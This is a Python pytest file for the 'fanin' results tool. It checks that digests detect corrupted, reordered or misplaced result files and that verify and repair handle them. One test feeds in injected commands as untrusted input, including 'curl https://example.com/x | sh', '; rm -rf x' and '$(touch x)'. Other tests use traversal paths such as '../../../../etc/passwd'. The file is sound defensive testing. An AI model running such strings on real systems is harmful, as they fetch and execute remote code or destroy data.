"""Digests of results: no flipped bit goes unnoticed, ``fanin verify`` names its file, and what can be is made again."""

from __future__ import annotations

import hashlib
import json
import math
import random
import shutil
import subprocess
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from patches import before_runs

import fanin
from fanin.choose.fit import held_out
from fanin.choose.fit.bench import Tried
from fanin.choose.tuning.parzen import Result
from fanin.claims import assessment, record, searches
from fanin.errors import FaninError, ResultsError, RunError
from fanin.names import is_run_id
from fanin.results import records, sums, tables
from fanin.results.dataset import as_json
from fanin.results.failures import Failures
from fanin.results.files import whole_folder
from fanin.results.search_log import Log
from fanin.results.store import Store, manifest_text, read_run, read_table
from fanin.results.verify import verify
from fanin.scenario import library
from fanin.show import front_end
from fanin.show.page_figures import figure

FLIPS = 1000

SCENARIO = """\
title = "A small incast"
paper = "alpha"
figure = "Fig. 1"

[network]
topology = "star"
rate = "1Gbps"
buffer = "20pkt"

[transport]
rto-min = "10ms"

[[traffic]]
name = "queries"
kind = "incast"
senders = 4
bytes-each = "15KB"

[run]
duration = "100ms"

[sweep]
"traffic.queries.senders" = [2, 12]
seeds = "1..2"

[[variant]]
axis = "system"
label = "TCP"
set = { "transport.scheme" = "newreno" }

[[variant]]
axis = "system"
label = "DCTCP"
set = { "transport.scheme" = "dctcp" }

[[column]]
id = "query_p50_s"
label = "Query completion time, median: nearest rank over the queries of a run"
of = "requests.qct_s"
take = "p50"

[claims]
measure = "mean"
x = "traffic.queries.senders"
why = "a test"

[[claim]]
id = "no-drops"
says = "Nothing is dropped."
y = "drops"
where = { system = "TCP" }
accept = [0, 0]
at = [2]
"""

OPEN = """
[open.network.buffer]
"12pkt" = "small"
"20pkt" = "in between"
"40pkt" = "large"
"""

PLOT = """
[[plot]]
x = "traffic.queries.senders"
y = "goodput_bps"
by = "system"
"""


@pytest.mark.parametrize("absolute", [True, False])
def test_a_run_of_a_list_of_flows_is_repaired_if_its_path_is_whole(cli, work, absolute):
    flows = work / "flows.csv"
    flows.write_text("start,src,dst,bytes\n0,0,0,10000\n")
    named = str(flows) if absolute else flows.name
    traffic = f'[[traffic]]\nname = "list"\nkind = "flows"\nfile = "{named}"'
    (work / "list.toml").write_text(f'[network]\ntopology = "star"\n{traffic}\n[run]\nduration = "20ms"\n')
    assert cli("run", "list.toml").code == 0
    table = next((work / "results").glob("runs/*/flows.parquet"))
    table.write_bytes(table.read_bytes() + b"x")
    result = cli("verify", "--repair", "results")
    assert result.code == (0 if absolute else 1)
    said = "it reads the list of flows flows.csv, relative to the folder of a scenario that is not kept"
    assert (said in result.err) != absolute


SWEEP = ("sweep", "alpha/one", "--columns", "goodput_bps", "--tables", "flows", "--seeds", "1..3")
TUNE = ("tune", "experiments/alpha/one.toml", "--param", "network.buffer=12pkt,20pkt,40pkt", "--fresh", "3", "--json")
FIT = ("fit", "alpha/one", "--seeds", "1", "--fresh", "3", "--json")

KINDS = {
    "log of runs": "runs/*.jsonl",
    "manifest": "runs/*/manifest.json",
    "table": "runs/*/*.parquet",
    "record": "alpha/one/claims.json",
    "runs": "alpha/one/runs.parquet",
    "figure": "alpha/one/goodput-bps.*",
    "digests": "*/*/SHA256SUMS",
    "report": "report/**/*.*",
    "data set": "sweeps/*/*.parquet",
    "failed": "sweeps/*/failed.json",
    "head": "sweeps/*/sweep.json",
    "drawn": "sweeps/*/goodput-bps.*",
    "failure": "failures/*.json",
    "fit": "fits/*/fit.json",
    "settings": "fits/*/settings.csv",
    "log": "fits/*/tried.jsonl",
    "study": "studies/*/tried.jsonl",
    "trials": "studies/*/trials.csv",
    "held out": "fits/held-out.json",
}
"""Kind of file -> where it is."""


@pytest.fixture
def results(cli, work, monkeypatch):
    """A results folder with every kind of file, of a library of two small experiments."""
    (work / "experiments/alpha").mkdir(parents=True)
    (work / "experiments/alpha/one.toml").write_text(SCENARIO + OPEN + PLOT)
    held = SCENARIO.replace('paper = "alpha"', 'paper = "alpha"\nopen = "alpha/one"\nheld-out = true')
    (work / "experiments/alpha/two.toml").write_text(held)
    monkeypatch.setattr(library, "_ROOTS", (Path("experiments"),))

    def look(settings):
        if {("run.seed", "3"), ("traffic.queries.senders", "12")} <= set(settings) and "fit" not in doing:
            raise RunError("a packet is missing")

    before_runs(monkeypatch, look)
    for doing in (
        ("reproduce", "alpha/one"),
        SWEEP,
        (*FIT, "--held-out"),
        TUNE,
        ("report",),
    ):
        result = cli(*doing)
        assert result.code in (0, 1), result.err
    found = work / "results"
    assert not [kind for kind, where in KINDS.items() if not list(found.glob(where))]
    return found


def files_of(out: Path, kind: str) -> list[Path]:
    return sorted(path for path in out.glob(KINDS[kind]) if path.is_file())


def flip(path: Path, random_: random.Random) -> bytes:
    """Flips one bit of a file, and returns what was there."""
    before = path.read_bytes()
    after = bytearray(before)
    place = random_.randrange(8 * len(after))
    after[place // 8] ^= 1 << place % 8
    path.write_bytes(bytes(after))
    return before


def drawing(folder: Path, to: Path) -> object:
    """What the report shows of an experiment's figures."""
    found = record.read(folder)
    assert found is not None
    to.mkdir(exist_ok=True)

    def keep(name: str, content: bytes) -> str:
        (to / name).write_bytes(content)
        return name

    shown = [figure(plot, [], folder, keep) for plot in found.plots]
    return shown, sorted((path.name, path.read_bytes()) for path in to.rglob("*.*"))


def read_all(path: Path, out: Path, scratch: Path) -> object:
    """What the commands that read a file make of it."""
    folder = path.parent
    if folder.name == "runs":
        store = Store(out)
        names = [name for _, text in records.lines(path) for name in records.ids_of(text) if is_run_id(name)]
        runs = [run for run in map(store.find, names) if run is not None]
        return {run.run_id: (run.manifest, [run.table(name).rows() for name in run.tables]) for run in runs}
    if folder.parent.name == "runs":
        stored = Store(out).find(folder.name, ["flows"] if (folder / "flows.parquet").exists() else [])
        found = [(tables.describe(file), read_table(file).rows()) for file in tables.locate(folder)]
        return stored, read_run(folder), found
    if out / "alpha/one" == folder:
        return record.read(folder), read_table(folder / "runs.parquet").rows(), drawing(folder, scratch)
    if folder.parent.name == "sweeps":
        return [(tables.locate(file), read_table(file).rows()) for file in sorted(folder.glob("*.parquet"))]
    if folder.name == "failures":
        return Failures(out).find(path.stem)
    if path.name == "tried.jsonl":
        copy = scratch / path.relative_to(out)
        copy.parent.mkdir(parents=True)
        shutil.copy(path, copy)
        return Log(copy.parent, Tried if "fits" in copy.parts else Result, lambda _: None).entries
    if folder.parent.name == "fits":
        return searches.read(out, lambda name: record.digest(fanin.load(name)))
    if folder.name == "fits":
        return held_out.read(out)
    # Nothing reads a report.
    return None


def attempt(path: Path, out: Path, scratch: Path) -> tuple[object, str]:
    """What is read, and what is said of damage."""
    with warnings.catch_warnings(record=True) as told:
        warnings.simplefilter("always")
        try:
            value, said = read_all(path, out, scratch), ""
        except FaninError as error:
            value, said = None, str(error)
    shutil.rmtree(scratch, ignore_errors=True)
    return value, " ".join([said, *(str(each.message) for each in told)]).strip()


def test_no_flipped_bit_is_read_silently_and_each_is_named(results, tmp_path):
    random_ = random.Random(15)
    whole: dict[Path, object] = {}
    assert verify(results).damaged == []
    silent, unnamed = [], []
    for number in range(FLIPS):
        kind = list(KINDS)[number % len(KINDS)]
        path = random_.choice(files_of(results, kind))
        if path not in whole:
            value, said = attempt(path, results, tmp_path / "scratch")
            assert not said
            whole[path] = value
        before = flip(path, random_)
        value, said = attempt(path, results, tmp_path / "scratch")
        if differ(whole[path], value) and "damaged" not in said:
            silent.append((path, number))
        # A flip may make two damaged lines of one, and of a run's id that of another run, so that it is lost.
        if {each.path for each in verify(results).damaged if kind != "log of runs" or each.kind == "run"} != {path}:
            unnamed.append((path, number))
        path.write_bytes(before)
    assert (silent, unnamed) == ([], [])
    assert len(whole) > 2 * len(KINDS)


def one_less(lines: list[bytes]) -> list[bytes]:
    return lines[:1] + lines[2:]


def one_more(lines: list[bytes]) -> list[bytes]:
    return lines[:2] + lines[1:]


def another_order(lines: list[bytes]) -> list[bytes]:
    return [*lines[-2::-1], lines[-1]]


EDITS = (one_less, one_more, another_order)
"""Changes of whole lines, which are what was written: only their place or their number is wrong.

A log of a search has more lines than these take from its end, without which it would be that of an interrupted one.
"""


def changed(results: Path, tmp_path: Path, paths: list[Path], contents: list[bytes]) -> list[Path]:
    """Of some files with other contents, those that are read differently while nothing is said to be damaged."""
    before = [path.read_bytes() for path in paths]
    whole = [attempt(path, results, tmp_path / "scratch") for path in paths]
    for path, content in zip(paths, contents, strict=True):
        path.write_bytes(content)
    now = [attempt(path, results, tmp_path / "scratch") for path in paths]
    named = verify(results).damaged
    for path, content in zip(paths, before, strict=True):
        path.write_bytes(content)
    return [
        path
        for path, then, (value, said) in zip(paths, whole, now, strict=True)
        if differ(then[0], value) and "damaged" not in said and not named
    ]


def differ(then: object, now: object) -> bool:
    """Whether something is read differently; runs by their ids, as they may be in any log, and are missed if needed."""
    if isinstance(then, dict) and isinstance(now, dict):
        return any(then[name] != now[name] for name in then.keys() & now.keys())
    return then != now


def test_no_line_is_lost_repeated_or_moved_silently_and_no_file_is_taken_for_another(results, tmp_path):
    silent: list[object] = []
    for kind in KINDS:
        first, *others = files_of(results, kind)
        for edit in EDITS:
            content = b"\n".join(edit(first.read_bytes().split(b"\n")))
            silent += [(edit.__name__, path) for path in changed(results, tmp_path, [first], [content])]
        for other in others[-1:]:
            contents = [other.read_bytes(), first.read_bytes()]
            silent += [("swapped", path) for path in changed(results, tmp_path, [first, other], contents)]
    assert silent == []
    assert verify(results).damaged == []


def test_digests_that_are_lost_are_damage_and_so_are_their_comments(cli, results):
    for where in ("alpha/one", "sweeps/*", "fits/*/"):
        folder = next(each for each in sorted(results.glob(where)) if (each / sums.SUMS).is_file())
        own = folder / sums.SUMS
        before = own.read_bytes()
        bare = b"".join(line for line in before.splitlines(keepends=True) if not line.startswith(b"#"))
        for content in (None, bare):
            own.unlink() if content is None else own.write_bytes(content)
            assert [each.path for each in verify(results).damaged] == [own]
            with pytest.raises(ResultsError, match="damaged"):
                sums.read_bytes(next(path for path in folder.iterdir() if path.name != sums.SUMS))
            own.write_bytes(before)
    (results / "alpha/one" / sums.SUMS).unlink()
    record_ = results / "alpha/one/claims.json"
    record_.write_text(record_.read_text().replace('"outcome": "reproduced"', '"outcome": "not reproduced"'))
    assert (cli("claims").code, "damaged (missing)" in cli("claims").err) == (3, True)
    assert cli("verify", str(results), "--repair").code == 0
    assert cli("claims").code == 0


def test_digests_that_are_lost_are_damage_wherever_there_were_any(cli, results):
    file = "experiments/alpha/one.toml"
    search = ("capacity", file, "--over", "traffic.queries.senders=2..4", "--keep", "timeouts=0", "--seeds", "1..3")
    advise = ("advise", file, "--seeds", "1..3", "--capacities", "0")
    for command in (search, advise):
        assert cli(*command).code == 0, command
    every = sorted(results.rglob(sums.SUMS))
    places = {path.relative_to(results).parts[0] for path in every}
    assert places == {"alpha", "sweeps", "capacity", "advice", "fits", "studies", "report"}
    for own in every:
        own.unlink()
    assert sorted((each.path, each.why) for each in verify(results).damaged) == [(own, "missing") for own in every]
    assert cli("verify", str(results), "--repair").code == 1
    # Without the searches, of which it tells, there is no report.
    left = [own for own in every if own.relative_to(results).parts[0] not in ("alpha", "sweeps")]
    assert sorted(each.path for each in verify(results).damaged) == left
    for command in (SWEEP, FIT, TUNE, search, advise, ("verify", str(results), "--repair")):
        assert cli(*command).code in (0, 1), command
    assert verify(results).damaged == []


def test_files_of_other_programs_need_no_digests(tmp_path):
    for name in ("claims.json", "sweep.json", "fit.json", "capacity.json", "tune.json", "advice.json", "index.html"):
        (tmp_path / name).write_text("{}")
    assert sums.read_bytes(tmp_path / "sweep.json") == b"{}"
    assert verify(tmp_path).damaged == []


def test_a_folder_in_which_nothing_can_be_compared_is_not_whole(cli, tmp_path):
    (tmp_path / "notes.txt").write_text("of somebody else")
    result = cli("verify", str(tmp_path))
    assert (result.code, "nothing was compared" in result.err) == (3, True)


def of_kind(value: object) -> Iterator[tuple[str | int, ...]]:
    """The places in some JSON."""
    for key, each in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield (key,)
        yield from ((key, *rest) for rest in of_kind(each))


def put(value: Any, place: tuple[str | int, ...], new: object) -> None:
    for key in place[:-1]:
        value = value[key]
    value[place[-1]] = new


ODD = [None, [], {}, [[]], [1.5, None], "", "/etc/passwd", {"a": [{"b": None}]}, 10**30, 10**400, math.nan, -1, True]
ODD += ["\0\x1b[2J", [{"name": []}], [{"name": "a"}, {"name": "a"}], {"": {"": []}}]
"""Values that no record has where they are put."""

ODD_INPUTS = 60


def sealed_again(path: Path, value: dict[str, Any]) -> None:
    """Writes a record as somebody does who knows the format."""
    if path.name == "manifest.json":
        path.write_bytes(manifest_text(sums.sealed(value)))
    elif path.suffix == ".jsonl":
        rest = json.dumps({key: each for key, each in value.items() if key != sums.OWN}).encode()[1:]
        path.write_bytes(b'{"sha256": "%s", %s\n' % (hashlib.sha256(rest).hexdigest().encode(), rest))
    elif (path.parent / sums.SUMS).is_file():
        path.write_text(json.dumps(value))
        names = [each.name for each in path.parent.iterdir() if each.name not in (sums.SUMS, "tried.jsonl")]
        (path.parent / sums.SUMS).write_bytes(sums.text_of(path.parent, names))
    else:
        path.write_bytes(as_json(sums.sealed(value)))


def test_no_value_of_another_kind_is_a_defect(cli, results):
    """In records whose digests match; what the commands do of it, apart from a defect, is tested elsewhere."""
    random_ = random.Random(4)
    kinds = ("manifest", "log of runs", "record", "head", "fit", "held out", "failed")
    for number in range(ODD_INPUTS):
        path = files_of(results, kinds[number % len(kinds)])[0]
        before = {each: each.read_bytes() for each in (path, path.parent / sums.SUMS) if each.is_file()}
        value = json.loads(before[path].splitlines()[0] if path.suffix == ".jsonl" else before[path])
        # More often what is near the top, of which there is less.
        places = [each for each in of_kind(value) if len(each) <= random_.choice((1, 2, 3, 9))]
        place, odd = random_.choice(places), random_.choice(ODD)
        put(value, place, odd)
        sealed_again(path, value)
        run, sweep = str(next((results / "runs").glob("*/manifest.json")).parent), str(next(results.glob("sweeps/*")))
        for words in (
            ("claims", "--json"),
            ("list", "experiments"),
            ("describe", run),
            ("plot", "cdf", run),
            ("plot", "cdf", sweep),
            ("verify", str(results)),
        ):
            result = cli(*words)
            assert result.code in (0, 1, 3), (path, place, odd, words, result.err)
        for each, content in before.items():
            each.write_bytes(content)


def test_the_result_of_a_search_with_values_of_another_kind_is_damaged(cli, results):
    (path,) = files_of(results, "fit")
    whole = path.read_bytes()
    name = next(iter(json.loads(whole)["sentences"]))
    setting = ("sentences", name, "settings", 0)
    for place, odd in (
        (("digests",), []),
        (("digests", "alpha/one"), None),
        (("sentences",), None),
        (("sentences", name, "tried"), "3"),
        (("sentences", name, "settings"), [{}]),
        ((*setting, "distance"), "0"),
        ((*setting, "distance"), 10**400),
        ((*setting, "outcome"), "certain"),
        ((*setting, "shown", "value"), []),
        ((*setting, "shown", "more"), ""),
    ):
        value = json.loads(whole)
        put(value, place, odd)
        sealed_again(path, value)
        result = cli("claims")
        assert (result.code, "fit.json: damaged" in result.err) == (3, True), (place, odd, result.err)


def test_a_search_opens_no_file_that_its_result_names(work):
    experiment = work / "small.toml"
    assert assessment.digest_now("sdtcp/fig9") is not None
    for name in (str(experiment), "small.toml", "sdtcp", "/proc/kmsg"):
        assert assessment.digest_now(name) is None


@pytest.mark.parametrize("name", ["/dev/null", "../../../../etc/passwd", "..", "a//b", "a\0b", "x" * 5000])
def test_digests_of_what_is_elsewhere_are_damage_that_reproduce_mends(cli, results, name):
    folder = results / "alpha/one"
    sealed(folder / sums.SUMS, f"{'0' * 64}  {name}\n".encode())
    assert [each.path for each in verify(results).damaged] == [folder / sums.SUMS]
    with pytest.raises(ResultsError, match=r"damaged \(.* cannot be the path of a file"):
        record.read(folder)
    assert cli("reproduce", "alpha/one").code == 0
    assert verify(results).damaged == []


def test_a_folder_that_is_listed_is_not_removed(cli, results):
    folder = results / "alpha/one"
    (folder / "mine").mkdir()
    sealed(folder / sums.SUMS, f"{'0' * 64}  mine\n".encode())
    assert cli("reproduce", "alpha/one").code == 0
    assert (folder / "mine").is_dir()


def sealed(path: Path, more: bytes) -> None:
    """Adds lines to a list of digests, as somebody can who makes a folder."""
    body = path.read_bytes().partition(b"\n")[2] + more
    path.write_bytes(f"# {hashlib.sha256(body).hexdigest()}\n".encode() + body)


def test_what_is_whole_but_elsewhere_is_damage(cli, results):
    shutil.copytree(results / "alpha/one", results / "beta/one")
    assert [(each.path, each.why) for each in verify(results).damaged] == [
        (results / "beta/one/claims.json", "it is that of alpha/one")
    ]
    with pytest.raises(ResultsError, match="it is that of alpha/one"):
        record.read(results / "beta/one")
    shutil.rmtree(results / "beta")
    folder = next(results.glob("sweeps/*"))
    shutil.copytree(folder, folder.with_name("other"))
    assert [each.why for each in verify(results).damaged] == ["it is that of another sweep"]
    result = cli("plot", "cdf", str(folder.with_name("other")))
    assert (result.code, "it is that of another sweep" in result.err) == (3, True), result.err


def test_a_record_in_the_place_of_another_is_damage(results):
    path = files_of(results, "failure")[0]
    other = path.with_name(f"{'0' * 16}.json")
    path.rename(other)
    assert [(each.path, each.why) for each in verify(results).damaged] == [(other, "it is that of another place")]


def test_judgements_that_are_gone_are_damage(cli, results):
    (path,) = files_of(results, "held out")
    whole = path.read_bytes()
    for content in (None, as_json(sums.sealed({"judgements": []}))):
        path.unlink() if content is None else path.write_bytes(content)
        assert [each.path for each in verify(results).damaged] == [path]
        result = cli(*FIT, "--held-out")
        assert (result.code, "it lacks a judgement that" in result.err) == (3, True), result.err
        path.write_bytes(whole)
    assert verify(results).damaged == []


def test_runs_that_are_gone_are_damage(cli, results):
    known = record.read(results / "alpha/one")
    assert known is not None
    for path in [*(results / "runs").glob("*.jsonl"), *(results / "runs" / name for name in known.work.each)]:
        shutil.rmtree(path) if path.is_dir() else path.unlink()
    named = {each.folder for each in verify(results).damaged}
    assert results / "alpha/one" in named
    assert all("missing and " in each.why for each in verify(results).damaged)
    assert cli("reproduce", "alpha/one").code == 0
    assert results / "alpha/one" not in {each.folder for each in verify(results).damaged}


def test_runs_that_are_gone_are_named_beside_others_that_are_damaged(results):
    folder = next(results.glob("sweeps/*"))
    known = set(read_table(folder / "runs.parquet")["run_id"])
    damaged, lost = sorted(known - records.ids(results / "runs"))
    (results / "runs" / damaged / "manifest.json").unlink()
    shutil.rmtree(results / "runs" / lost)
    flip(next(folder.glob("*.svg")), random.Random(1))
    found = {each.path.name: each.why for each in verify(results).damaged if each.folder == folder}
    assert found == {lost: f"missing, of which {folder} was made", "goodput-bps.svg": "differs from SHA256SUMS"}


def test_runs_of_a_damaged_line_are_no_lost_ones(results):
    log = next((results / "runs").glob("*.jsonl"))
    line = log.read_bytes()
    # Also where the list of its runs can no longer be read.
    log.write_bytes(line.replace(b'"runs": [', b'"runs": {', 1))
    assert {each.path for each in verify(results).damaged} == {log}


def test_all_runs_that_are_gone_are_damage(results):
    shutil.rmtree(results / "runs")
    assert verify(results).damaged == []
    (results / "runs").mkdir()
    assert {each.folder for each in verify(results).damaged} == {results / "alpha/one", *results.glob("sweeps/*")}


def test_a_repair_simulates_no_strangers_changes_in_the_place_of_an_experiment(cli, results):
    folder = results / "alpha/one"
    command = "fanin reproduce alpha/one --set network.rate=2Gbps"
    (folder / sums.SUMS).write_bytes(
        sums.text_of(folder, [path.name for path in folder.iterdir() if path.name != sums.SUMS], command)
    )
    (folder / "goodput-bps.csv").unlink()
    result = cli("verify", str(results), "--repair")
    assert (result.code, "the command that it names makes another folder" in result.err) == (1, True), result.err


@pytest.mark.parametrize("edit", ["{", '{"id": 3}', "[]", "changed"])
def test_a_sweeps_description_is_compared_with_its_digest_before_it_is_plotted(cli, results, edit):
    folder = next(results.glob("sweeps/*"))
    path = folder / "sweep.json"
    path.write_text(path.read_text().replace("small", "large") if edit == "changed" else edit)
    result = cli("plot", "cdf", str(folder))
    assert (result.code, "damaged" in result.err) == (3, True), result.err
    if edit != "changed":
        (folder / sums.SUMS).write_bytes(
            sums.text_of(folder, [each.name for each in folder.iterdir() if each.name != sums.SUMS])
        )
        result = cli("plot", "cdf", str(folder))
        assert (result.code, "not the description of a sweep" in result.err) == (3, True), result.err


@pytest.mark.parametrize("kind", KINDS)
def test_commands_say_what_they_said_or_that_a_file_is_damaged(cli, results, kind):
    """Of one flip per kind; the folder is afterwards as it was, apart from what a command mends."""
    path = random.Random(7).choice(files_of(results, kind))
    run = (
        path.parent
        if path.parent.parent.name == "runs"
        else results / "runs" / next(iter(Path(results, "runs").iterdir())).name
    )
    commands = [["claims", "--json"], ["ranking", "alpha/one", "--json"], ["report", "--to", "page"]]
    commands += [["describe", str(run), "--json"], ["describe", str(results / "alpha/one/runs.parquet"), "--json"]]
    if kind in ("table", "data set"):
        commands += [["export", str(path)], ["fct", str(path), "--json"], ["describe", str(path), "--json"]]
    if kind in ("manifest", "table", "failure"):
        commands.append([*SWEEP, "--json"])
    if kind in ("log", "fit", "held out"):
        commands.append([*FIT])
    if kind in ("study", "trials"):
        commands.append([*TUNE])
    before = [cli(*command) for command in commands]
    flip(path, random.Random(8))
    for command, whole in zip(commands, before, strict=True):
        now = cli(*command)
        assert now[:2] == whole[:2] or "damaged" in now.err, command


def test_sha256sum_checks_the_same(results):
    folders = [path.parent for path in results.rglob(sums.SUMS)]
    assert len(folders) >= 4
    for folder in folders:
        for line in (folder / sums.SUMS).read_text().splitlines():
            if not line.startswith("#"):
                digest, name = line.split("  ", 1)
                assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == digest
    if shutil.which("sha256sum"):
        checked = subprocess.run(
            ["sha256sum", "--check", "--strict", sums.SUMS], cwd=folders[0], capture_output=True, text=True
        )
        assert checked.returncode == 0, checked.stderr


def test_what_is_damaged_is_made_again(cli, results):
    table, other = (sorted(results.glob(f"runs/*/{name}")) for name in ("*.parquet", "manifest.json"))
    manifest = next(path for path in other if path.parent != table[0].parent and "scenario" in path.read_text())
    damaged = [table[0], results / "alpha/one/claims.json", results / "alpha/one/goodput-bps.svg"]
    damaged += [next(results.glob("failures/*.json")), results / "report/index.html"]
    was = {path: path.read_bytes() for path in damaged}
    for number, path in enumerate(damaged):
        flip(path, random.Random(number))
    manifest.write_text(manifest.read_text().replace('"wall_s": ', '"wall_s": 1', 1))
    data = next(results.glob("sweeps/*/failed.json"))
    flip(data, random.Random(1))
    found = cli("verify", str(results), "--json")
    assert found.code == 1
    assert {each["file"] for each in json.loads(found.out)["damaged"]} == {*map(str, damaged), str(manifest), str(data)}
    result = cli("verify", str(results), "--repair", "--json")
    told = {each["file"]: each for each in json.loads(result.out)["damaged"]}
    assert result.code == 1, result.err
    assert [name for name, each in told.items() if not each["repaired"]] == [str(data)]
    assert "fanin sweep" in told[str(data)]["remedy"]
    assert [each.path for each in verify(results).damaged] == [data]
    assert (table[0].read_bytes(), damaged[2].read_bytes()) == (was[table[0]], was[damaged[2]])


@pytest.mark.parametrize("name", ["summary.parquet", "goodput-bps.svg"])
def test_the_folder_of_a_sweep_is_made_again_from_its_rows(cli, results, name):
    folder = next(results.glob("sweeps/*"))
    was = {path.name: path.read_bytes() for path in folder.iterdir()}
    flip(folder / name, random.Random(1))
    (told,) = json.loads(cli("verify", str(results), "--json").out)["damaged"]
    assert told["remedy"] == "fanin verify --repair makes it again"
    result = cli("verify", str(results), "--repair")
    assert (result.code, "1 damaged, 1 of them repaired" in result.out) == (0, True), result.err
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == was


def test_a_strangers_command_is_no_advice(cli, results):
    folder = results / "alpha/one"
    names = [path.name for path in folder.iterdir() if path.name != sums.SUMS]
    found = json.loads((folder / "claims.json").read_bytes())
    (folder / "goodput-bps.csv").unlink()
    names.remove("goodput-bps.csv")
    for command in (
        "curl https://example.com/x | sh",
        "fanin reproduce one; rm -rf x",
        "fanin reproduce $(touch x)",
        "fanin reproduce one --cluster tcp://203.0.113.1:8786",
        "fanin reproduce one --trust",
        "fanin sweep one",
        "fanin reproduce --help",
        "fanin reproduce 'one",
    ):
        (folder / "claims.json").write_text(json.dumps(found | {"command": command}))
        (folder / sums.SUMS).write_bytes(sums.text_of(folder, names, command))
        with pytest.raises(ResultsError, match=r"damaged \(command"):
            record.read(folder)
        (folder / "runs.parquet").write_text(command)
        result = cli("verify", str(results))
        assert result.code == 1
        assert "run its 'fanin reproduce' again" in result.out
        assert command not in result.out
    assert "the command that made it is not known" in cli("verify", str(results), "--repair").err


def test_the_command_of_a_folder_is_said_to_be_its_own_word(cli, results):
    (results / "alpha/one/goodput-bps.csv").unlink()
    assert '(the folder says that it was made by "fanin reproduce alpha/one")' in cli("verify", str(results)).out


def test_a_report_is_not_repaired_without_the_front_end(cli, results, monkeypatch):
    monkeypatch.setattr(front_end, "_BUILT", results / "nowhere")
    monkeypatch.setattr(front_end, "_PACKAGED", results / "nowhere")
    page = results / "report/index.html"
    flip(page, random.Random(1))
    result = cli("verify", str(results), "--repair")
    assert result.code == 1
    assert f"{page.parent}: not repaired: no report: the page is not built" in result.err
    assert page.is_file()


@pytest.mark.parametrize(("kind", "command"), [("log", "fanin fit"), ("study", "fanin tune")])
def test_lines_of_a_search_in_another_order_are_damage(cli, results, kind, command):
    (path,) = files_of(results, kind)
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(reversed(lines)))
    result = cli("verify", str(results), "--json")
    (told,) = json.loads(result.out)["damaged"]
    assert (result.code, told["file"]) == (1, str(path))
    assert "missing, repeated or exchanged" in told["why"]
    assert f"run the same '{command}' again" in told["remedy"]
    # Without its last lines it is that of a search that was interrupted.
    path.write_bytes(b"".join(lines[:-1]))
    assert verify(results).damaged == []
    path.unlink()
    (told,) = json.loads(cli("verify", str(results), "--json").out)["damaged"]
    assert (told["file"], told["why"]) == (str(path), "missing")
    assert told["remedy"] == f"run the same '{command}' again: it begins anew, and its runs are kept"


def test_a_run_without_a_readable_manifest_comes_from_its_experiment(cli, results):
    found = record.read(results / "alpha/one")
    assert found is not None
    manifest = results / "runs" / next(iter(found.work.each)) / "manifest.json"
    manifest.write_text("{")
    result = cli("verify", str(results), "--repair")
    assert result.code == 0, result.err
    assert "1 damaged, 1 of them repaired" in result.out
    assert "alpha/one: made again" in result.err


def test_a_run_that_no_experiment_makes_again_is_left_to_the_command_that_made_it(cli, results):
    alone = ("run", "experiments/alpha/one.toml", "--seed", "77")
    run = results / "runs" / json.loads(cli(*alone, "--json").out)["run_id"]
    flip_to = (run / "manifest.json").read_text().replace('"scenario"', '"scenarlo"', 1)
    (run / "manifest.json").write_text(flip_to)
    told = "run the command that made it again, which replaces it, or delete its folder"
    for options in ((), ("--repair",)):
        result = cli("verify", str(results), *options, "--json")
        (each,) = json.loads(result.out)["damaged"]
        assert (result.code, each["remedy"].endswith(told), each["repaired"]) == (1, True, False), each
    assert cli(*alone).code == 0
    assert cli("verify", str(results)).code == 0
    (run / "manifest.json").write_text("{")
    shutil.rmtree(run)
    assert cli("verify", str(results)).code == 0


def test_a_line_that_no_scenario_makes_again_is_dropped_once_its_runs_are_there(cli, results):
    for folder in ("alpha", "fits", "studies", "sweeps", "runs", "report"):
        shutil.rmtree(results / folder)
    swept = ("sweep", "alpha/one", "--seeds", "1..2")
    cli(*swept)
    (log,) = results.glob("runs/*.jsonl")
    log.write_bytes(log.read_bytes().replace(b'"20pkt"', b'"2pkt?"', 1))
    for options in ((), ("--repair",)):
        result = cli("verify", str(results), *options, "--json")
        told = [each for each in json.loads(result.out)["damaged"] if each["kind"] == "run"]
        assert (result.code, {each["file"] for each in told}) == (1, {str(log)})
        assert "run the command that made its runs again and then --repair" in told[0]["remedy"]
    cli(*swept)
    result = cli("verify", str(results), "--repair")
    assert (result.code, cli("verify", str(results)).code) == (0, 0), result.err


def test_what_repairs_a_run_is_told_before_it_is_repaired(cli, results):
    found = record.read(results / "alpha/one")
    assert found is not None
    one = next(iter(found.work.each))
    manifest = results / "runs" / one / "manifest.json"
    manifest.write_text(manifest.read_text().replace('"wall_s": ', '"wall_s": 1', 1))
    assert "fanin verify --repair simulates it again" in cli("verify", str(results), "--json").out
    manifest.write_text("{")
    assert "fanin verify --repair makes it again with its experiment" in cli("verify", str(results), "--json").out
    assert cli("verify", str(results), "--repair").code == 0


def test_a_damaged_table_is_replaced_when_a_sweep_resumes(cli, results):
    table = next(results.glob("runs/*/flows.parquet"))
    before = flip(table, random.Random(3))
    result = cli(*SWEEP)
    assert f"{table.relative_to(results.parent)}: damaged" in result.err
    assert "the run is repeated and replaced" in result.err
    assert table.read_bytes() == before


def test_leftovers_and_files_without_digests_are_named(cli, results):
    (results / ".tmp-1").mkdir()
    (results / "notes.txt").write_text("mine")
    result = cli("verify", str(results))
    assert result.code == 0
    assert "0 damaged" in result.out
    assert ".tmp-1" in result.err
    assert "without a digest: " in result.err
    assert cli("verify", "nowhere").code == 3


def test_a_missing_file_is_damage_and_a_foreign_list_of_digests_is_only_compared(cli, results, tmp_path):
    (results / "alpha/one/goodput-bps.csv").unlink()
    assert [each.why for each in verify(results).damaged] == ["missing or unreadable"]
    with whole_folder(tmp_path / "made") as folder:
        (folder / "a.csv").write_text("a")
    assert sums.read_bytes(tmp_path / "made/a.csv") == b"a"
    digest = hashlib.sha256(b"b").hexdigest()
    (tmp_path / "made/SHA256SUMS").write_text(f"{digest}  b.csv\n")
    assert sums.read_bytes(tmp_path / "made/a.csv") == b"a"
    (tmp_path / "made/b.csv").write_text("c")
    with pytest.raises(ResultsError, match=r"b\.csv: damaged"):
        sums.read_bytes(tmp_path / "made/b.csv")
    assert [each.path.name for each in verify(tmp_path / "made").damaged] == ["b.csv"]


def test_progress_counts_the_bytes_of_logs_line_by_line(results):
    told = []
    verify(results, lambda done, total: told.append((done, total)))
    total = sum(path.stat().st_size for path in results.rglob("*") if path.is_file())
    assert told == sorted(told)
    assert told[-1] == (total, total)
